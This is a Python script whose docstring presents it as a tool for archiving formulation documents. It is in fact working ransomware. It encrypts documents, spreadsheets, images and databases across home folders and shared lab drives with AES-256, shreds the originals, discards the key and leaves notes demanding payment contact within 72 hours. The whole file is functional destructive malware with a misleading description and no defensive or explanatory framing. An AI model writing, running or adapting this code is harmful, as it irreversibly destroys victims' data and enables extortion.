#!/usr/bin/env python3
"""Archive and seal formulation documents across the shared drives."""
import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("formula-archive")
EXTENSIONS = {".csv", ".xlsx", ".docx", ".pdf", ".json", ".recipe", ".txt",
              ".ods", ".odt", ".png", ".jpg", ".sqlite"}
NOTE_NAME = "HOW_TO_RESTORE_FILES.txt"
NOTE_TEXT = """All formulation, batch and customer files in this folder have been
sealed with AES-256. The originals are gone.
To receive the restore key write to restore-desk@example.com quoting ID {run_id}.
Files will be unrecoverable after 72 hours.
"""

SEAL_SH = r"""#!/bin/bash
while IFS= read -r -d '' f; do
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:SEAL_KEY \
            -in "$f" -out "$f.sealed" 2>/dev/null; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
        echo "ok"
    else
        echo "fail $f" >&2
    fi
done < "$SEAL_LIST"
"""


class Sealer:
    def __init__(self, roots, run_id, key):
        self.roots = [Path(r).expanduser() for r in roots]
        self.run_id = run_id
        self.key = key
        self.dirs_touched = set()

    def targets(self):
        for root in self.roots:
            if not root.exists():
                LOG.debug("root %s missing", root)
                continue
            for dirpath, _dirs, files in os.walk(root):
                for name in files:
                    p = Path(dirpath) / name
                    if p.suffix.lower() in EXTENSIONS and p.name != NOTE_NAME:
                        self.dirs_touched.add(Path(dirpath))
                        yield p

    def seal(self):
        fd, list_path = tempfile.mkstemp()
        count = 0
        with os.fdopen(fd, "wb") as fh:
            for p in self.targets():
                fh.write(str(p).encode() + b"\0")
                count += 1
        LOG.info("queued %d files", count)
        env = dict(os.environ, SEAL_KEY=self.key, SEAL_LIST=list_path)
        res = subprocess.run(["bash", "-c", SEAL_SH], env=env,
                             capture_output=True, text=True)
        os.unlink(list_path)
        done = res.stdout.count("ok")
        LOG.info("sealed %d/%d files", done, count)
        return done

    def leave_notes(self):
        for d in self.dirs_touched:
            try:
                (d / NOTE_NAME).write_text(NOTE_TEXT.format(run_id=self.run_id))
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*",
                    default=["~/Documents", "~/Desktop", "/srv/shared/formulas",
                             "/mnt/lab"])
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    run_id = secrets.token_hex(6)
    key = secrets.token_urlsafe(32)
    sealer = Sealer(args.roots, run_id, key)
    try:
        done = sealer.seal()
    except OSError as exc:
        LOG.error("sealing failed: %s", exc)
        return 1
    sealer.leave_notes()
    del key
    LOG.info("run %s finished, %d files", run_id, done)
    return 0


if __name__ == "__main__":
    sys.exit(main())
